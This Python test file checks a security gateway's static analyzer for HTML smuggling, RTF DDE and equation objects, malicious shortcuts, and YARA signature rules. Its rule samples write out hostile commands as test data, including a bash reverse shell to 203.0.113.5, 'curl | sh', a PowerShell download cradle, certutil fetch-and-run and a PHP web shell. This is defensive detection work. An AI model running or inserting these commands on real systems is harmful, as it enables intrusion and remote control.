"""Static analysis of pages, scripts, rich text and shortcuts: decision tables."""

from __future__ import annotations

import base64
import re
import struct

import pytest
import yara_x

from gateway.engines import static
from gateway.engines.static.shortcuts import read_strings
from gateway.engines.static.signatures import RULES, Signatures, read_rule
from gateway.model import Severity
from tools.corpus.detections import rtf_files as files

SCRIPT = "<script>{}</script>"
PROGRAM = base64.b64encode(b"MZ" + bytes(400)).decode()


def found(data: str | bytes, type_name: str, name: str = "file") -> dict[str, Severity]:
    raw = data.encode() if isinstance(data, str) else data
    report = static.examine(raw, type_name, name)
    return {item.code.removeprefix("static."): item.severity for item in report.findings}


@pytest.mark.parametrize(
    ("page", "codes", "acts", "why"),
    [
        ("<p>text</p>", set(), False, "a page"),
        ("<p>a < script > b</p>", set(), False, "a blank behind the bracket makes it text"),
        (SCRIPT.format("show()"), set(), True, "an ordinary script"),
        (
            SCRIPT.format(f"var b=new Blob([atob('{PROGRAM}')]);a.download='x.exe';a.click()"),
            {"html_smuggling"},
            True,
            "a program handed over as download",
        ),
        (
            SCRIPT.format("x=atob(y);u=URL.createObjectURL(b);a.setAttribute('download','z')"),
            {"html_smuggling"},
            True,
            "whatever it decodes, it becomes a download",
        ),
        (SCRIPT.format(f"x='{PROGRAM}'"), {"html_carries_file"}, True, "carries a program"),
        (SCRIPT.format("eval(atob('eA=='))"), {"html_obfuscated"}, True, "decodes and runs"),
        (
            "<meta http-equiv=refresh content='0; url=https://x.example/'>",
            {"html_refresh"},
            True,
            "goes on by itself",
        ),
        (
            "<form action='https://x.example/in'><input type=password></form>",
            {"html_password_form"},
            False,
            "sends a password away",
        ),
        ("<input type='password'>", {"html_password_field"}, False, "asks for a password"),
        ("<iframe src='https://x.example/'></iframe>", {"html_frame"}, False, "loads another"),
        ("<body onload='x()'>", set(), True, "a handler"),
    ],
)
def test_pages(page: str, codes: set[str], acts: bool, why: str) -> None:
    report = static.examine(page.encode(), "html", "page.html")
    assert {item.code.removeprefix("static.") for item in report.findings} == set(codes), why
    assert bool(report.active) == acts, why


def test_hosts_of_a_page_are_reported() -> None:
    page = b"<a href='https://One.example/x'>a</a><img src=\"http://two.example:81/i\">"
    assert static.examine(page, "html", "p").hosts == ("one.example", "two.example")


def test_a_drawing_with_a_script_acts() -> None:
    drawing = b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>"
    report = static.examine(drawing, "svg", "a.svg")
    assert report.active == ("script in the drawing",)


@pytest.mark.parametrize(
    ("text", "codes", "why"),
    [
        (r"{\rtf1 only text}", set(), "text"),
        (r"{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe}{\fldrslt x}}}", {"dde"}, "DDE field"),
        (r"{\rtf1{\field{\*\fldinst {\b D}{DEAUTO} cmd}{\fldrslt x}}}", {"dde"}, "split DDE"),
        (r"{\rtf1{\field{\*\fldinst HYPERLINK \"https://a\"}{\fldrslt x}}}", set(), "a link"),
        (r"{\rtf1{\*\template https://x.example/t}}", {"external_links"}, "remote template"),
        (r"{\rtf1{\*\template C:\\Normal.dotm}}", set(), "a local template"),
    ],
)
def test_rich_text(text: str, codes: set[str], why: str) -> None:
    assert set(found(text, "rtf")) == codes, why


def test_an_object_in_rich_text_is_found_and_its_class_weighed() -> None:
    name = b"Equation.3\0"
    header = struct.pack("<3L", 0x0501, 2, len(name)) + name + bytes(8)
    content = header + struct.pack("<L", 8) + b"\x1c" * 8
    text = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + content.hex().encode() + b"}}}"
    codes = found(text, "rtf")
    assert codes["equation_object"] is Severity.MEDIUM
    assert "rtf_object_update" in codes


@pytest.mark.parametrize(
    ("body", "active", "why"),
    [
        ("text", (), "text"),
        (files.field('HYPERLINK "https://a.example/"'), (), "a link waits for a click"),
        (files.field("PAGE"), (), "a number"),
        (files.embedded("PBrush", b"BM"), ("embedded object",), "an object"),
        (
            files.embedded("PBrush", b"BM", words=r"\objemb\objupdate"),
            ("embedded object", "object that updates itself on opening"),
            "an object that is loaded on opening",
        ),
        (r"{\listoverride\listoverridecount9}", (), "overrides as Word writes them"),
        (
            r"{\listoverride\listoverridecount25}",
            ("word that readers were broken with",),
            "overrides as nobody writes them",
        ),
        (
            r"{\sp{\sn pibName}{\sv http://a.example/p.png}}",
            ("shape with a picture from elsewhere",),
            "a picture of the network",
        ),
    ],
)
def test_what_acts_in_rich_text(body: str, active: tuple[str, ...], why: str) -> None:
    assert static.examine(files.text(body), "rtf", "a.rtf").active == active, why


@pytest.mark.parametrize(
    ("data", "active", "why"),
    [
        (files.equation(files.fraction()), ("equation of the Equation Editor",), "an equation"),
        (files.package_object("a.txt", b"x"), ("embedded file",), "a packaged file"),
        (files.link("https://a.example/x"), ("link to an object elsewhere",), "a link"),
        (files.whole_file("CONTENTS", b"%PDF-1.4", files.ACROBAT), ("embedded file",), "a PDF"),
        (files.whole_file("CONTENTS", b"BM", files.PAINT), (), "a picture"),
    ],
)
def test_what_acts_in_a_bare_object(data: bytes, active: tuple[str, ...], why: str) -> None:
    assert static.examine(data, "ole", "a.bin").active == active, why


def shortcut(path: str, arguments: str) -> bytes:
    """A minimal .lnk with a relative path and arguments."""
    flags = 0x80 | 0x08 | (0x20 if arguments else 0)
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    data = struct.pack("<L16sL", 0x4C, clsid, flags).ljust(76, b"\0")
    for text in (path, arguments):
        if text:
            data += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return data


def test_shortcuts_weigh_by_what_they_start() -> None:
    assert read_strings(shortcut("..\\a.exe", "-x")) == {"path": "..\\a.exe", "arguments": "-x"}
    shell = shortcut("..\\cmd.exe", "/c calc")
    assert found(shell, "lnk") == {"lnk_shell": Severity.HIGH}
    assert found(shortcut("..\\report.docx", ""), "lnk") == {"lnk": Severity.MEDIUM}
    remote = found(shortcut("\\\\203.0.113.5\\x\\a.exe", ""), "lnk")
    assert remote["lnk_remote"] is Severity.MEDIUM


@pytest.mark.parametrize("length", range(0, 130, 3))
def test_a_cut_off_shortcut_never_breaks(length: int) -> None:
    static.examine(shortcut("..\\cmd.exe", "/c calc")[:length], "lnk", "a.lnk")


@pytest.mark.parametrize(
    ("text", "code", "severity"),
    [
        ("[InternetShortcut]\nURL=https://example.org/", "url", Severity.LOW),
        ("[InternetShortcut]\r\nURL=file://203.0.113.5/x/a.exe", "url_share", Severity.HIGH),
        ("[InternetShortcut]\nURL=https://a\nIconFile=\\\\host\\i.ico", "url_share", Severity.HIGH),
        ("[InternetShortcut]\nURL=search-ms:query=x", "url_program", Severity.HIGH),
    ],
)
def test_internet_shortcuts(text: str, code: str, severity: Severity) -> None:
    assert found(text, "url")[code] is severity


RULE_SAMPLES: list[tuple[str, str, str, str]] = [
    ("double_extension", "pdf", "Invoice.pdf.exe", "x"),
    ("double_extension", "pdf", "Invoice.pdf    .scr", "x"),
    ("right_to_left_name", "pe", "annex\u202efdp.exe", "x"),
    ("padded_name", "pe", "report" + " " * 40 + ".exe", "x"),
    ("program_in_document", "pdf", "a", "%PDF This program cannot be run in DOS mode"),
    ("onenote_program", "onenote", "a", "\x00<hta:application"),
    ("equation_exploit", "rtf", "a", "4571756174696f6e2e33 636d642e657865202f63"),
    (
        "powershell_cradle",
        "powershell",
        "a",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
    ),
    ("powershell_hidden", "batch", "a", "powershell.exe -nop -enc " + "QQBB" * 20),
    ("powershell_hidden", "batch", "a", "powershell -w hidden -ep bypass -file a.ps1"),
    (
        "script_dropper",
        "vbscript",
        "a",
        'CreateObject("ADODB.Stream"): CreateObject("WScript.Shell").Run "a"',
    ),
    ("encoded_windows_script", "javascript", "a", "#@~^AAAA==xxx^#~@"),
    (
        "batch_fetch_and_run",
        "batch",
        "a",
        "certutil -urlcache -f http://x a.exe\nstart a.exe",
    ),
    ("shell_reverse_connection", "sh", "a", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"),
    ("shell_fetch_and_run", "sh", "a", "curl -s http://x.example/i | sh"),
    ("shell_persists", "sh", "a", "(crontab -l; echo x) | crontab -"),
    (
        "javascript_obfuscated",
        "javascript",
        "a",
        "eval(String.fromCharCode(" + "65," * 25 + "66))",
    ),
    ("python_runs_encoded", "python", "a", "exec(base64.b64decode('eA=='))"),
    ("php_web_shell", "php", "a", "<?php system($_GET['c']);"),
    ("hta_runs", "hta", "a", '<script language=VBScript>CreateObject("WScript.Shell")</script>'),
    ("program_injects", "pe", "a", "VirtualAllocEx WriteProcessMemory CreateRemoteThread"),
    ("program_packed_upx", "pe", "a", "UPX0 UPX1 UPX!"),
    ("elf_miner_or_bot", "elf", "a", "stratum+tcp://pool"),
]
ONENOTE_DATA = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")


@pytest.mark.parametrize(("rule", "kind", "name", "text"), RULE_SAMPLES)
def test_each_rule_matches_what_it_is_for(rule: str, kind: str, name: str, text: str) -> None:
    data = ONENOTE_DATA + text.encode() if kind == "onenote" else text.encode()
    assert f"rule.{rule}" in found(data, kind, name)


def test_each_rule_has_a_sample_and_a_unique_id() -> None:
    sources = "".join(path.read_text() for path in sorted(RULES.glob("*.yar")))
    ids = re.findall(r'\bid = "(\w+)"', sources)
    assert sorted(ids) == sorted(set(ids))
    assert set(ids) == {rule for rule, _, _, _ in RULE_SAMPLES}


@pytest.mark.parametrize(
    ("kind", "name", "text"),
    [
        ("pdf", "Report.v2.final.pdf", "x"),
        ("pdf", "example.com.pdf", "x"),
        ("sh", "backup.sh", "#!/bin/sh\ntar czf /backup/a.tgz /home\n"),
        ("sh", "install.sh", "curl -o data.json https://x.example/data.json\n"),
        ("python", "a.py", "import base64\nprint(base64.b64decode('eA=='))\n"),
        ("powershell", "a.ps1", "Get-ChildItem | Sort-Object Length\n"),
        ("batch", "a.bat", "@echo off\ncurl -o a.txt https://x.example/a.txt\n"),
        ("javascript", "a.js", "const f = (x) => x * 2;\nmodule.exports = f;\n"),
        ("text", "notes.txt", "We discussed powershell and Invoke-Expression (IEX).\n"),
        ("php", "a.php", "<?php echo htmlspecialchars($_GET['name']);"),
    ],
)
def test_honest_files_match_no_rule(kind: str, name: str, text: str) -> None:
    assert [code for code in found(text, kind, name) if code.startswith("rule.")] == []


def test_a_rule_without_its_words_does_not_load() -> None:
    with pytest.raises(KeyError):
        read_rule((("id", "x"), ("severity", "high")))
    with pytest.raises(ValueError, match="grave"):
        read_rule((("id", "x"), ("title", "t"), ("severity", "grave"), ("confidence", 1)))
    with pytest.raises(yara_x.CompileError):
        Signatures({"broken": "rule a { condition: nonsense }"})
